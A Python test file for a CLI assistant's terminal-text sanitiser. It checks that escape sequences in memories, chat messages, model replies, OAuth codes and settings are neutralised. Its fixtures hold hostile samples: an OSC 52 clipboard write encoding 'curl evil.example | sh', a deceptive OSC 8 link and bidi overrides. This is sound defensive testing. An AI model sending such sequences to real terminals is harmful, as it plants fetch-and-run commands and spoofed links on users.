"""Issue #14, item 8 and issue #13's control characters: escape sequences reached the terminal.

A memory holding an OSC 52 sequence wrote to the clipboard of whoever ran `paa memory search`; a chat message with
ESC[2J cleared the screen of `paa chat show`; the model's streamed reply, a provider's user code and SMTP settings
carried ESC, C1 controls and bidi overrides to the screen; and a habit named `Read \\[/]` broke every coloured
`habit list` because `\\[` undid the markup escaping. Now one rule (paa.terminal_text) keeps control characters out
of stored text and out of everything shown, and user text shows exactly as written.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Mapping

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlmodel import col, select

from paa.cli.output import console
from paa.db.models import Memory, Message
from paa.terminal_text import clean, markup, plain
from paa.tui.markup import literal
from tests.support.fake_anthropic import FakeAnthropic, reply
from tests.support.fake_oauth import FakeOAuth, stand_in
from tests.support.runtime import open_context

ESC = "\x1b"
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # puts "curl evil.example | sh" on the clipboard
OSC8 = "\x1b]8;;https://evil.example/\x1b\\your bank\x1b]8;;\x1b\\"  # a link whose words hide its address
CLEAR = "\x1b[2J"
C1_CSI = "\x9b2J"  # the same screen clear, as a single C1 character
BIDI = "\u202e"  # right-to-left override: "txt.exe" reads as "exe.txt"
BIDI_CONTROLS = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
# The colours rich writes on a forced terminal; any other escape sequence came from the data.
_SGR = re.compile(r"\x1b\[[0-9;]*m")


def assert_inert(shown: str) -> None:
    """Nothing in `shown` acts on a terminal: no escape sequence but colours, no C1 control, no bidi control."""
    rest = _SGR.sub("", shown)
    acting = [
        char for char in rest if char in (ESC, "\x07", "\x00") or 0x80 <= ord(char) <= 0x9F or char in BIDI_CONTROLS
    ]
    assert not acting, f"control characters reached the terminal: {acting!r} in {shown!r}"


def visible(shown: str) -> str:
    return _SGR.sub("", shown)


@pytest.fixture
def colour(monkeypatch: pytest.MonkeyPatch) -> None:
    """Colour forced on, as on a terminal."""
    monkeypatch.setenv("PAA_COLOR", "always")
    console.cache_clear()


# ---- stored text ------------------------------------------------------------------------------------------------


def test_a_memory_with_a_clipboard_write_is_kept_without_it(cli) -> None:
    done = cli("memory", "add", f"the router password is on the fridge{OSC52}")
    assert done.code == 0, done.err
    assert_inert(done.out)
    with open_context() as ctx:
        stored = [row.content for row in ctx.session.exec(select(Memory)).all()]
    assert stored == ["the router password is on the fridge]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=="]


def test_a_memory_stored_with_escape_sequences_is_searched_and_listed_inert(cli, colour) -> None:
    """A row written before the rule (or by another program) is made inert where it is shown."""
    with open_context(write=True) as ctx:
        content = f"router{OSC52} password {BIDI}gnp.exe {OSC8}"
        ctx.session.add(Memory(user_id=ctx.user_id, kind="fact", content=content, created_at=ctx.now()))
    for args in (("memory", "search", "router password"), ("memory", "list")):
        done = cli(*args)
        assert done.code == 0, done.err
        assert_inert(done.out)
        assert "router]52;c;" in visible(done.out) and "gnp.exe" in done.out


def test_json_output_escapes_c1_and_bidi_controls_and_keeps_the_value(cli) -> None:
    content = f"pay{C1_CSI} {BIDI}gnp.exe\u2066"
    with open_context(write=True) as ctx:
        ctx.session.add(Memory(user_id=ctx.user_id, kind="fact", content=content, created_at=ctx.now()))
    done = cli("memory", "list", "--json")
    assert done.code == 0, done.err
    assert_inert(done.out)
    assert "\\u009b" in done.out and "\\u202e" in done.out
    assert [item["content"] for item in json.loads(done.out)] == [content]  # the same JSON value, written safely


def _conversation_with(content: str) -> int:
    from paa.ai import store

    with open_context(write=True) as ctx:
        conversation = store.create_conversation(ctx, "about the screen")
        ctx.session.add(
            Message(user_id=ctx.user_id, conversation_id=conversation.id or 0, role="assistant", content=content,
                    created_at=ctx.now())
        )  # fmt: skip
        return conversation.id or 0


@pytest.mark.parametrize("coloured", [False, True], ids=["piped", "colour"])
def test_chat_show_does_not_clear_the_screen(cli, monkeypatch: pytest.MonkeyPatch, coloured: bool) -> None:
    if coloured:
        monkeypatch.setenv("PAA_COLOR", "always")
        console.cache_clear()
    conversation = _conversation_with(f"hello{CLEAR}{C1_CSI} world {BIDI}gnp.exe [b]not bold[/b] C:\\")
    done = cli("chat", "show", str(conversation))
    assert done.code == 0, done.err
    assert_inert(done.out)
    assert "hello[2J2J world gnp.exe [b]not bold[/b] C:\\" in visible(done.out)


def test_the_models_reply_and_pasted_input_are_stored_and_printed_without_control_characters(
    cli, fake_anthropic: FakeAnthropic
) -> None:
    fake_anthropic.push(reply(f"Sure{OSC52} thing{CLEAR} {BIDI}done", chunks=5))  # sequences split across deltas
    done = cli("chat", "--no-stdin", f"pasted from a log: {CLEAR}error{ESC}[31m red")
    assert done.code == 0, done.err
    assert done.out == "Sure]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA== thing[2J done\n"
    with open_context() as ctx:
        stored = [row.content for row in ctx.session.exec(select(Message).order_by(col(Message.id))).all()]
    assert stored == [
        "pasted from a log: [2Jerror[31m red",
        "Sure]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA== thing[2J done",
    ]


def test_a_reply_streamed_to_a_terminal_is_rendered_inert(
    cli, fake_anthropic: FakeAnthropic, colour, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("paa.cli.chat._stdout_is_terminal", lambda: True)  # Markdown rendered live, as it arrives
    fake_anthropic.push(reply(f"**Sure**{OSC52} see [the docs](https://evil.example/){OSC8}{CLEAR}", chunks=4))
    done = cli("chat", "--no-stdin", "hello")
    assert done.code == 0, done.err
    assert "\x1b]" not in done.out and CLEAR not in done.out  # rich moves the cursor itself; no data does
    assert not [char for char in done.out if 0x80 <= ord(char) <= 0x9F or char in BIDI_CONTROLS]
    assert "https://evil.example/" in done.out  # a Markdown link shows where it goes


# ---- names with brackets and backslashes ---------------------------------------------------------------------------

NAMES = ["Read \\[/]", "C:\\[x]", "\\\\[bold]", "Backup C:\\", "[WIP] Write", "Plan [b"]


@pytest.mark.parametrize("coloured", [False, True], ids=["piped", "colour"])
def test_habit_names_with_brackets_and_backslashes_show_as_written(
    cli, monkeypatch: pytest.MonkeyPatch, coloured: bool
) -> None:
    for name in NAMES:
        assert cli("habit", "add", name).code == 0, name
    if coloured:
        monkeypatch.setenv("PAA_COLOR", "always")
        console.cache_clear()
    for args in (("habit", "list"), ("habit", "today")):
        done = cli(*args)
        assert done.code == 0, done.err
        for name in NAMES:
            assert name in visible(done.out), (args, name, done.out)


def test_the_tui_shows_names_with_brackets_and_backslashes_as_written(cli, clock) -> None:
    """Textual reads markup too: the dashboard's reminders put each name between its own tags."""
    import os

    from paa.tui.app import create_app
    from tests.support.tui import drive, screen_text, wait_for

    for hour, name in enumerate(NAMES, start=13):
        assert cli("habit", "add", name, "--remind", f"{hour}:00").code == 0, name
    app = create_app(environ=dict(os.environ), clock=clock, poll_seconds=0.1, animations=False)

    async def scenario(pilot) -> None:
        await wait_for(pilot, lambda: pilot.app.ready_at, what="the dashboard's first paint")
        shown = screen_text(app)
        for hour, name in enumerate(NAMES, start=13):
            assert f"{hour}:00  {name}" in shown.replace("\u2060", ""), (name, shown)

    drive(app, scenario, size=(120, 40))


def test_the_tui_chat_streams_the_models_reply_without_control_characters(
    cli, clock, fake_anthropic: FakeAnthropic
) -> None:
    import os

    from textual.widgets import Input

    from paa.tui.app import create_app
    from paa.tui.widgets.chat import AssistantMessage
    from tests.support.tui import drive, screen_text, wait_for

    fake_anthropic.push(reply(f"Sure{OSC52} thing{CLEAR} {BIDI}done", chunks=5))
    assert cli("habit", "add", "Read").code == 0
    app = create_app(environ=dict(os.environ), clock=clock, poll_seconds=0.1, animations=False)

    def transcript() -> str:
        return "\n".join(widget.source for widget in app.screen.query(AssistantMessage))

    async def scenario(pilot) -> None:
        await wait_for(pilot, lambda: pilot.app.ready_at, what="the dashboard's first paint")
        await pilot.press("2")
        await wait_for(pilot, lambda: "Claude (claude-" in screen_text(app), what="the chat screen")
        app.screen.query_one("#prompt", Input).focus()
        await pilot.press(*"hello", "enter")
        await wait_for(pilot, lambda: "done" in transcript(), what="the reply")
        assert transcript() == "Sure]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA== thing[2J done"
        assert_inert(screen_text(app))

    drive(app, scenario)


# ---- the provider's user code --------------------------------------------------------------------------------------


def _tampered(fake: FakeOAuth, user_code: str) -> Callable[[], Callable[..., tuple[int, bytes]]]:
    """The provider's transport, with the device code's answer carrying `user_code`."""

    def transport() -> Callable[..., tuple[int, bytes]]:
        http = fake.transport()

        def tampering(method: str, url: str, headers: Mapping[str, str], body: bytes | None) -> tuple[int, bytes]:
            status, answer = http(method, url, headers, body)
            if url.endswith("/device/code"):
                data = json.loads(answer)
                answer = json.dumps({**data, "user_code": user_code}).encode()
            return status, answer

        return tampering

    return transport


def test_the_providers_user_code_cannot_write_to_the_terminal(
    cli, colour, slept, oauth_server: Callable[[], FakeOAuth], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PAA_OAUTH_GITHUB_CLIENT_ID", "paa-test-client")
    github = stand_in(monkeypatch, oauth_server())
    monkeypatch.setattr("paa.cli.auth.provider_http", _tampered(github, f"WDJB{OSC52}-MJHT{BIDI}"))
    done = cli("auth", "login", "--github")
    assert_inert(done.out + done.err)
    assert "WDJB]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==-MJHT" in visible(done.out)


# ---- settings ----------------------------------------------------------------------------------------------------


def test_smtp_settings_refuse_control_characters(cli, paa_home) -> None:
    done = cli("config", "set", "smtp.host", f"mail.example.org{OSC52}")
    assert done.code != 0
    assert "control or invisible character (U+001B)" in done.err
    assert_inert(done.err)
    config = paa_home / "config.toml"
    assert not config.exists() or ESC not in config.read_text(encoding="utf-8")


# ---- the sanitiser, for any text ------------------------------------------------------------------------------------

# Text weighted towards what breaks markup and terminals: brackets, backslashes, tag words, controls, bidi.
_MARKUP = ["[", "]", "\\", "/", "b", "bold", "#f00", "@click", "=", ":smile:", " ", "é", "字", "👍🏽"]
_CONTROLS = ["\n", "\t", ESC, "\x07", "\x9b", "\x00", "\u202e", "\u2066", "\u200b", "\ufeff"]
_PIECES = st.sampled_from([*_MARKUP, *_CONTROLS])
TEXTS = st.lists(st.one_of(_PIECES, st.text(max_size=3)), max_size=12).map("".join)
CONTEXTS = ["{}", "[bold]{}[/]", "{} tail", "[dim]{}[/] [cyan]x[/]", "[bold]#1[/] {}"]


def _without_tags(context: str) -> str:
    return re.sub(r"\[/?[a-z #0-9]*\]", "", context)


@given(text=TEXTS)
def test_rich_markup_shows_any_text_as_written_minus_controls(text: str) -> None:
    from rich.console import Console
    from rich.markup import render

    for context in CONTEXTS:
        marked = context.format(markup(text))
        expected = _without_tags(context).format(clean(text))
        assert render(marked, emoji=False).plain == expected
        assert plain(marked) == expected  # what uncoloured output writes
        out = Console(force_terminal=True, color_system="truecolor", width=200, highlight=False, emoji=False)
        with out.capture() as captured:
            out.print(marked, soft_wrap=True)
        assert_inert(captured.get())


@given(text=TEXTS)
def test_textual_markup_shows_any_text_as_written_minus_controls(text: str) -> None:
    from textual.content import Content

    for context in ("{}", "[b]{}[/b]", "{} tail", "[$error]{}[/] [b]x[/b]"):
        shown = Content.from_markup(context.format(literal(text))).plain
        expected = context.replace("[b]", "").replace("[/b]", "").replace("[$error]", "").replace("[/]", "")
        assert shown.replace("\u2060", "") == expected.format(clean(text))  # the word joiner takes no column
        assert_inert(shown)


@given(text=st.text())
def test_clean_leaves_nothing_a_terminal_acts_on(text: str) -> None:
    cleaned = clean(text)
    assert_inert(cleaned)
    assert clean(cleaned) == cleaned
    assert set(cleaned) <= set(text)
